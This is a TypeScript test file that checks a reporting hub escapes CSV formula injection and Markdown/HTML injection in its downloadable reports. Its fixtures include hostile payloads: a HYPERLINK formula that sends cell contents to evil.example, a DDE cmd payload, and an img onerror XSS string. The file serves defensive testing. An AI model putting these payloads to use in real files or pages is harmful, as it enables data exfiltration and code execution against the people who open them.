/**
 * What the hub writes for people to open: every CSV download neutralises text a spreadsheet would evaluate as a
 * formula, keeps numbers numeric, and the Markdown report shows catalogue text as text. Text entered through the
 * API (responsible persons) and catalogue names (a department renamed in the database) on both databases.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { todayIn } from '../../src/common/clock';
import { Department } from '../../src/modules/departments/department.entity';
import { dataOf } from '../helpers/api';
import { startTestHub, type TestHub } from '../helpers/test-hub';

const HOSTILE: Record<string, string> = {
  'T01.02': '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
  'T02.02': '+1+2',
  'T02.03': '-2+3',
  'T03.02': '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'T03.03': '=1+2',
};
const MARKDOWN_NAME = '[Bấm vào đây](https://evil.example/x) <img src=x onerror=alert(1)> | **Giám đốc**';

describe('formula-safe CSV and escaped Markdown', () => {
  let hub: TestHub;
  let base: string;
  let asOf: string;
  const download = (path: string, init: RequestInit = {}) => fetch(`${base}${path}`, { ...init, headers: { ...hub.headers, ...(init.headers as Record<string, string>) } });

  beforeAll(async () => {
    hub = await startTestHub();
    base = hub.hub.url.replace(/\/graphql$/, '');
    asOf = todayIn(hub.hubConfig.timeZone);
    for (const [code, person] of Object.entries({ ...HOSTILE, 'T04.01': MARKDOWN_NAME })) {
      await dataOf(hub, 'mutation($code: String!, $person: String!) { updateTask(code: $code, input: { responsiblePerson: $person, note: "test" }) { code } }', { code, person });
    }
    await hub.dataSource.getRepository(Department).update({ code: 'SO_YT' }, { nameVi: '=1+2 Sở Y tế' });
  });
  afterAll(async () => {
    await hub?.close();
  });

  it('progress.csv: text an administrator entered reaches the file as text, figures stay numbers', async () => {
    const response = await download(`/reports/progress.csv?period=2024-Q1&asOf=${asOf}`);
    expect(response.status).toBe(200);
    const rows = parseCsv(await response.text(), { bom: true, columns: true }) as Array<Record<string, string>>;
    const overdue = new Map(rows.filter((row) => row.section === 'overdue').map((row) => [row.code, row]));
    for (const [code, person] of Object.entries(HOSTILE)) expect({ code, cell: overdue.get(code)?.responsible_person }).toEqual({ code, cell: `'${person}` });
    expect(overdue.get('T04.01')?.responsible_person).toBe(MARKDOWN_NAME);
    const department = rows.find((row) => row.section === 'department' && row.code === 'SO_YT' && row.measure === 'tasks_total')!;
    expect(department.name).toBe("'=1+2 Sở Y tế");
    expect(department.value).toMatch(/^\d+$/);
    expect(overdue.get('T01.02')?.days_late).toMatch(/^\d+$/);
  });

  it('export CSV: names from the catalogue are neutralised, values are plain numbers', async () => {
    const response = await download('/export/aggregate', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ metrics: ['KCB_BIOMETRIC_VISITS'], groupBy: ['DEPARTMENT'], from: '2024-Q1', to: '2024-Q1' }),
    });
    expect(response.status).toBe(200);
    const rows = parseCsv(await response.text(), { bom: true, columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ department_code: 'SO_YT', department_name_vi: "'=1+2 Sở Y tế", metric: 'KCB_BIOMETRIC_VISITS' });
    expect(rows[0].value).toMatch(/^\d+(\.\d+)?$/);
  });

  it('progress.md: catalogue text cannot become links, images, HTML or table cells', async () => {
    const response = await download(`/reports/progress.md?period=2024-Q1&asOf=${asOf}`);
    expect(response.status).toBe(200);
    const markdown = await response.text();
    expect(markdown).toContain('\\[Bấm vào đây\\]\\(https\\://evil.example/x\\) \\<img src=x onerror=alert\\(1\\)\\> \\| \\*\\*Giám đốc\\*\\*');
    expect(markdown).not.toContain('[Bấm vào đây](https://evil.example/x)');
    expect(markdown).not.toMatch(/(?<!\\)<img/);
    // Every row of the overdue table still has its 7 cells.
    const overdueRows = markdown.split('## Quá hạn')[1].split('\n## ')[0].split('\n').filter((line) => /^\| (nhiệm vụ|mô hình thí điểm) \|/.test(line));
    expect(overdueRows.length).toBeGreaterThan(0);
    for (const line of overdueRows) expect(line.split(/(?<!\\)\|/).length - 2).toBe(7);
  });
});
